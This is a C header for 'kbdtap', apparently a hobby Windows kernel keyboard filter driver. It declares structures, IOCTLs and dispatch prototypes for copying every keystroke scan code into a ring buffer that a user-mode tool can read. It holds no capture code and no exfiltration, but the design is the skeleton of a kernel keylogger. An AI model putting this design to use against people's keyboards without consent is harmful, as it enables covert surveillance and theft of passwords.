/*
 * kbdtap - a small keyboard class filter
 *
 * Sits on top of \Device\KeyboardClassN and copies every scan code that
 * goes up the stack into a ring buffer. A user-mode tool opens
 * \\.\KbdTap and reads the ring with IOCTL_KBDTAP_READ_RING.
 *
 * Learning project, do not ship.
 */
#pragma once

#include <ntddk.h>
#include <ntddkbd.h>

#define KT_TAG              'pTbK'
#define KT_MAX_KEYBOARDS    4
#define KT_RING_SIZE        256

#define KT_CONTROL_NAME     L"\\Device\\KbdTap"
#define KT_CONTROL_LINK     L"\\DosDevices\\KbdTap"

#define IOCTL_KBDTAP_READ_RING \
    CTL_CODE(FILE_DEVICE_UNKNOWN, 0x801, METHOD_BUFFERED, FILE_READ_ACCESS)
#define IOCTL_KBDTAP_CLEAR_RING \
    CTL_CODE(FILE_DEVICE_UNKNOWN, 0x802, METHOD_BUFFERED, FILE_WRITE_ACCESS)

#define LOG(fmt, ...) \
    DbgPrintEx(DPFLTR_IHVDRIVER_ID, DPFLTR_INFO_LEVEL, "[kbdtap] " fmt "\n", __VA_ARGS__)
#define LOG0(msg) \
    DbgPrintEx(DPFLTR_IHVDRIVER_ID, DPFLTR_INFO_LEVEL, "[kbdtap] " msg "\n")

typedef enum _KT_DEVICE_KIND {
    KtKindControl = 1,
    KtKindFilter  = 2
} KT_DEVICE_KIND;

/* every device object we create starts with this header */
typedef struct _KT_COMMON_EXT {
    KT_DEVICE_KIND Kind;
} KT_COMMON_EXT, *PKT_COMMON_EXT;

typedef struct _KT_FILTER_EXT {
    KT_COMMON_EXT  Common;
    PDEVICE_OBJECT Self;
    PDEVICE_OBJECT Lower;
    ULONG          ClassIndex;
} KT_FILTER_EXT, *PKT_FILTER_EXT;

typedef struct _KT_CONTROL_EXT {
    KT_COMMON_EXT Common;
} KT_CONTROL_EXT, *PKT_CONTROL_EXT;

typedef struct _KT_KEY_RECORD {
    USHORT MakeCode;
    USHORT Flags;
    ULONG  ClassIndex;
} KT_KEY_RECORD, *PKT_KEY_RECORD;

typedef struct _KT_GLOBALS {
    PDEVICE_OBJECT ControlDevice;
    BOOLEAN        LinkCreated;

    PDEVICE_OBJECT Filters[KT_MAX_KEYBOARDS];
    ULONG          FilterCount;

    KSPIN_LOCK     RingLock;
    KT_KEY_RECORD  Ring[KT_RING_SIZE];
    ULONG          RingHead;
    ULONG          RingCount;

    volatile LONG  PendingReads;
} KT_GLOBALS;

extern KT_GLOBALS g_Kt;

/* attach.c */
NTSTATUS KtAttachToClass(_In_ PDRIVER_OBJECT DriverObject, _In_ ULONG Index, _Out_ PDEVICE_OBJECT *FilterDevice);
VOID     KtDetachAll(VOID);

/* main.c */
DRIVER_DISPATCH KtDispatchRead;
DRIVER_DISPATCH KtDispatchPower;
DRIVER_DISPATCH KtDispatchPnp;
DRIVER_DISPATCH KtDispatchControl;
IO_COMPLETION_ROUTINE KtReadComplete;
